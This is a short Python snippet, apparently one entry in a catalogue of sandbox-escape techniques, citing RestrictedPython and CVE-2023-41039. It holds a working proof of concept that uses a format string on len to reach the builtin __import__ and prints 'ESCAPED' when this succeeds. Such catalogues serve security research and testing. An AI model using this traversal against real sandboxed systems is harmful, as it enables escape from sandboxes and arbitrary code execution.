# technique: the same by a format string
# goal: builtins
# source: RestrictedPython, CVE-2023-41039
text = '{0.__self__.__import__}'.format(len)
if 'function __import__' in text:
    print('ESCAPED', text)
